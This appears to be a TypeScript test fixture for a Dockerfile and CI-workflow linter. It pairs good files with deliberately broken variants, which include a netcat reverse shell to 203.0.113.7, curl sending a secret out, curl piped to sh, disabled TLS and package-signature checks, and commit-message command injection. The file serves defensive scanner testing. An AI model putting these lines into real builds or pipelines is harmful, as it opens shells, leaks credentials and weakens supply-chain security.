/** Dockerfiles and workflows: a good one, and for each rule the lines that break it alone. */

/** A text of the good file, and what stands there instead. */
export interface FileBreak {
  readonly rule: string;
  readonly at: string;
  readonly put: string;
  /** Empty where the words are another library's. */
  readonly says: string;
}

export const GOOD_DOCKERFILE = `ARG BASE=debian:bookworm-slim
FROM golang:1.26-bookworm AS build
WORKDIR /src
COPY go.mod go.sum ./
RUN go mod download && go build -o /app .

FROM \${BASE}
LABEL org.opencontainers.image.title="shop"
RUN apt-get update \\
 # what it needs
 && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends ca-certificates curl \\
 && rm -rf /var/lib/apt/lists/*
ENV LOG_LEVEL=info TOKEN_LIMIT=4096
WORKDIR /srv
COPY --from=build /app /srv/
COPY .env.example /srv/
RUN <<SCRIPT
set -eu
mkdir -p /srv/data
SCRIPT
EXPOSE 8080 9090/udp
USER 10001:10001
ENTRYPOINT ["/srv/app"]
CMD ["serve"]
`;

const INSTALL = " && rm -rf /var/lib/apt/lists/*";
const AFTER = "WORKDIR /srv";
const add = (rule: string, put: string, says: string): FileBreak => ({
  rule: `dockerfile-${rule}`,
  at: AFTER,
  put: `${AFTER}\n${put}`,
  says,
});
const tls = (put: string, says: string): FileBreak => add("tls", put, says);

export const BROKEN_DOCKERFILES: readonly FileBreak[] = [
  {
    rule: "dockerfile-ssh-port",
    at: "EXPOSE 8080 9090/udp",
    put: "EXPOSE 22/tcp",
    says: "line 21: EXPOSE 22",
  },
  {
    rule: "dockerfile-base-tag",
    at: "ARG BASE=debian:bookworm-slim",
    put: "ARG BASE=debian",
    says: "line 7: FROM debian",
  },
  {
    rule: "dockerfile-stage-names",
    at: "FROM ${BASE}",
    put: "FROM ${BASE} AS Build",
    says: "line 7: Build is the name of an earlier stage",
  },
  add("maintainer", "MAINTAINER someone", "line 15: MAINTAINER is gone from Docker"),
  add("apt", "RUN apt show curl", "line 15: apt show"),
  {
    rule: "dockerfile-recommends",
    at: "apt-get install -y --no-install-recommends",
    put: "apt-get install -y",
    says: "line 9: apt-get install without --no-install-recommends",
  },
  {
    rule: "dockerfile-unattended",
    at: "apt-get install -y ",
    put: "apt-get install ",
    says: "line 9: apt-get install without -y",
  },
  add("update-alone", "RUN apt-get update", "line 15: apt-get update without install"),
  {
    rule: "dockerfile-workdir-absolute",
    at: "WORKDIR /srv",
    put: "WORKDIR srv",
    says: "line 14: WORKDIR srv",
  },
  {
    rule: "dockerfile-workdir-system",
    at: "WORKDIR /srv",
    put: "WORKDIR /usr/bin",
    says: "line 14: WORKDIR /usr/bin",
  },
  add("cd", "RUN cd /srv/data && ls", "line 15: cd /srv/data"),
  { rule: "dockerfile-user", at: "USER 10001:10001", put: "USER root", says: "line 22: USER root" },
  { rule: "dockerfile-user", at: "USER 10001:10001\n", put: "", says: "line 7: the last stage has no USER" },
  add("copy", "ADD https://acme.example/x /srv/", "line 15: ADD https://acme.example/x /srv/"),
  {
    rule: "dockerfile-copy-folder",
    at: "COPY go.mod go.sum ./",
    put: "COPY go.mod go.sum src",
    says: "line 4: COPY of 2 files to src",
  },
  {
    rule: "dockerfile-copy-from-self",
    at: "WORKDIR /src",
    put: "WORKDIR /src\nCOPY --from=build /a /b",
    says: "line 4: COPY --from=build is the stage itself",
  },
  {
    rule: "dockerfile-port-range",
    at: "EXPOSE 8080 9090/udp",
    put: "EXPOSE 80800",
    says: "line 21: EXPOSE 80800",
  },
  {
    rule: "dockerfile-one-command",
    at: 'CMD ["serve"]',
    put: 'CMD ["serve"]\nCMD ["again"]',
    says: "line 25: another CMD",
  },
  add("sudo", "RUN sudo make install", "line 15: sudo make"),
  add("password", "RUN echo app:x | chpasswd", "line 15: chpasswd sets a password"),
  tls("RUN curl -fsSLk https://acme.example/x -o /srv/x", "line 15: curl -fsSLk"),
  tls(
    "RUN --mount=type=cache,target=/x if true; then wget --no-check-certificate https://acme.example/x; fi",
    "line 15: wget --no-check-certificate",
  ),
  tls("RUN pip install --trusted-host=acme.example shop", "line 15: pip --trusted-host=acme.example"),
  tls("RUN npm config set strict-ssl false", "line 15: npm config set strict-ssl false"),
  tls("RUN git config --global http.sslVerify false", "line 15: git config --global http.sslVerify false"),
  tls("RUN echo sslverify=false >> /etc/yum.conf", "line 15: echo sslverify=false"),
  tls("ENV NODE_TLS_REJECT_UNAUTHORIZED=0", "line 15: NODE_TLS_REJECT_UNAUTHORIZED is set"),
  tls("ENV PYTHONHTTPSVERIFY 0", "line 15: PYTHONHTTPSVERIFY is set"),
  tls("ARG GIT_SSL_NO_VERIFY=1", "line 15: GIT_SSL_NO_VERIFY is set"),
  tls("RUN export NPM_CONFIG_STRICT_SSL=false", "line 15: NPM_CONFIG_STRICT_SSL is set"),
  tls("ENV PIP_TRUSTED_HOST=acme.example", "line 15: PIP_TRUSTED_HOST is set"),
  {
    rule: "dockerfile-signatures",
    at: INSTALL,
    put: " && apt-get install -y --no-install-recommends --allow-unauthenticated jq",
    says: "line 9: apt-get --allow-unauthenticated",
  },
  add("signatures", "RUN apk add --allow-untrusted x.apk", "line 15: apk --allow-untrusted"),
  add("signatures", "RUN rpm -i --nosignature x.rpm", "line 15: rpm --nosignature"),
  add("signatures", "RUN dnf install -y --nogpgcheck x", "line 15: dnf --nogpgcheck"),
  {
    rule: "dockerfile-secrets",
    at: "ENV LOG_LEVEL=info",
    put: "ENV STRIPE_API_KEY=anything LOG_LEVEL=info",
    says: "line 13: STRIPE_API_KEY is named like a secret",
  },
  add("secrets", "ARG NPM_TOKEN", "line 15: NPM_TOKEN is a build argument, which the image's history keeps"),
  add("secrets", "COPY .env id_rsa /srv/", "line 15: COPY .env"),
  add(
    "one-downloader",
    "RUN curl -o /a https://a.example && wget https://b.example",
    "curl and wget are both used in one stage",
  ),
  add(
    "pipe-to-shell",
    "RUN curl -fsSL https://get.acme.example/x | sh",
    "line 15: a script of get.acme.example is run unseen",
  ),
];

export const GOOD_WORKFLOW = `name: deploy
on:
  push: { branches: [main] }
  pull_request_target:
  workflow_dispatch:
    inputs:
      stack: { type: choice, options: [dev, prod] }
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    timeout-minutes: 30
    permissions: { contents: read, id-token: write }
    container: node:22.23-bookworm
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with: { persist-credentials: false }
      - uses: google-github-actions/auth@71f986410dfbc7added4569d411d040a91dc6935 # v2.1.8
        with: { workload_identity_provider: projects/1/x }
      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83 # v6.18.0
        with: { push: true, sbom: true, provenance: true }
      - env:
          TITLE: \${{ github.event.head_commit.message }}
        run: echo "$TITLE"
`;

const LAST = '        run: echo "$TITLE"';
const step = (rule: string, put: string, says: string): FileBreak => ({
  rule: `workflow-${rule}`,
  at: LAST,
  put: `${LAST}\n${put}`,
  says,
});
const CHECKOUT = "{ persist-credentials: false }";

export const BROKEN_WORKFLOWS: readonly FileBreak[] = [
  { rule: "workflow-readable", at: "permissions: {}", put: "permissions: {", says: "" },
  {
    rule: "workflow-write-all",
    at: "permissions: {}",
    put: "permissions: write-all",
    says: "permissions: write-all",
  },
  {
    rule: "workflow-permissions",
    at: "permissions: {}\njobs:",
    put: "jobs:\n  lint:\n    timeout-minutes: 5\n    steps: [{ run: npm test }]",
    says: "lint: neither it nor the workflow has permissions",
  },
  {
    rule: "workflow-pinned",
    at: "@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
    put: "@v4",
    says: "deploy: uses actions/checkout@v4",
  },
  { rule: "workflow-images", at: "node:22.23-bookworm", put: "node", says: "deploy: node" },
  {
    rule: "workflow-injection",
    at: 'echo "$TITLE"',
    put: "echo ${{ github.event.head_commit.message }}",
    says: "deploy: the script has ${{ github.event.head_commit.message }}",
  },
  {
    rule: "workflow-commands",
    at: "    timeout-minutes: 30",
    put: "    timeout-minutes: 30\n    env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true }",
    says: "deploy: ACTIONS_ALLOW_UNSECURE_COMMANDS is set",
  },
  step(
    "secret-upload",
    "      - run: \"curl -H 'x: ${{ secrets.KEY }}' https://acme.example\"",
    "deploy: a secret stands in a curl or wget",
  ),
  step("netcat", "      - run: nc -e /bin/sh 203.0.113.7 4444", "deploy: nc -e /bin/sh 203.0.113.7"),
  {
    rule: "workflow-signs-images",
    at: "provenance: true",
    put: "provenance: false",
    says: "deploy pushes an image",
  },
  { rule: "workflow-lists-parts", at: "sbom: true", put: "sbom: false", says: "deploy pushes an image" },
  {
    rule: "workflow-inputs",
    at: "{ type: choice, options: [dev, prod] }",
    put: "{ type: string }",
    says: "on.workflow_dispatch.inputs.stack takes any text",
  },
  {
    rule: "workflow-untrusted-checkout",
    at: CHECKOUT,
    put: '{ persist-credentials: false, ref: "${{ github.event.pull_request.head.sha }}" }',
    says: "deploy: checks out the head of the pull request",
  },
  {
    rule: "workflow-kept-token",
    at: CHECKOUT,
    put: "{ fetch-depth: 1 }",
    says: "deploy: actions/checkout keeps its token",
  },
  step("plain-secret", "      - run: deploy --key sk-abcdefghijklmnopqrstuvwxyz", "an API key stands in it"),
  {
    rule: "workflow-long-lived-key",
    at: "{ workload_identity_provider: projects/1/x }",
    put: "{ credentials_json: '${{ secrets.GCP }}' }",
    says: "deploy: credentials_json is a key that lasts",
  },
  { rule: "workflow-timeout", at: "    timeout-minutes: 30\n", put: "", says: "deploy: no timeout" },
  {
    rule: "workflow-timeout",
    at: "timeout-minutes: 30",
    put: "timeout-minutes: 360",
    says: "deploy: 360 minutes; at most 120",
  },
];

export const GOOD_PIPELINE = `default:
  image: node:22.23-bookworm
  timeout: 20 minutes
deploy:
  script:
    - echo "$CI_COMMIT_MESSAGE"
`;

const SCRIPT = 'echo "$CI_COMMIT_MESSAGE"';

export const BROKEN_PIPELINES: readonly FileBreak[] = [
  { rule: "workflow-images", at: "node:22.23-bookworm", put: "node:latest", says: "deploy: node:latest" },
  { rule: "workflow-timeout", at: "  timeout: 20 minutes\n", put: "", says: "deploy: no timeout" },
  {
    rule: "workflow-gitlab-injection",
    at: SCRIPT,
    put: "eval echo $CI_COMMIT_MESSAGE",
    says: "deploy: the script has eval echo $CI_COMMIT_MESSAGE",
  },
  { rule: "workflow-netcat", at: SCRIPT, put: "ncat 203.0.113.7 80", says: "deploy: ncat 203.0.113.7" },
];
